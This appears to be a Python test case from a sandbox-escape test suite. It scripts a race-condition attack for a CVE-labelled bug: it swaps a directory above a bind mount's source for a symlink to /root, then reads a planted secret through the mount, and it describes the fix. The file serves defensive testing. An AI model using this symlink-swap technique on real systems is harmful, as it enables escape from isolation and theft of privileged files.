"""A directory above a bind's source is exchanged for a link, so that the same path leads to another place."""

from bypass import inert

SOURCE = "CVE-2026-27523: links above the source"
WAY = "race"
STOPPED = inert("what is mounted is a copy of the mount that was looked at, by its descriptor")


def attack(t):
    t.keep_root()
    t.sh("mkdir -p /home/work/project/data /root/data")
    t.plant("/root/data/secret", 0o600)
    t.bind("/home/work/project/data", "/x")
    t.before_low("mv /home/work/project /home/work/old; ln -s /root /home/work/project")
    return t.leaked(t.run("cat /x/secret"))
